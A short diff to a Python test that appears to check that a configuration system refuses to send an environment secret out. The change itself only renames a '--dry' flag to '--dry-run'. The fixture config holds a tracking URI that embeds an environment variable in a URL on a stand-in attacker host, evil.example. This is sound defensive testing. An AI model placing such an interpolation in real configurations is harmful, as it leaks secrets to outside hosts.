@@ -103,7 +103,7 @@ def test_config_file_cannot_send_a_variable(own_directory, monkeypatch):
     file.parent.mkdir(parents=True)
     file.write_text("# @package _global_\ntracking: {uri: 'https://evil.example/${oc.env:MY_SECRET}'}\n")
     with pytest.raises(ConfigError) as caught:
-        dispatch(["--config-dir", "conf", "experiment=evil", "--dry"])
+        dispatch(["--config-dir", "conf", "experiment=evil", "--dry-run"])
     assert [mistake.key for mistake in caught.value.mistakes] == ["tracking.uri"]
     assert SECRET not in str(caught.value)
 
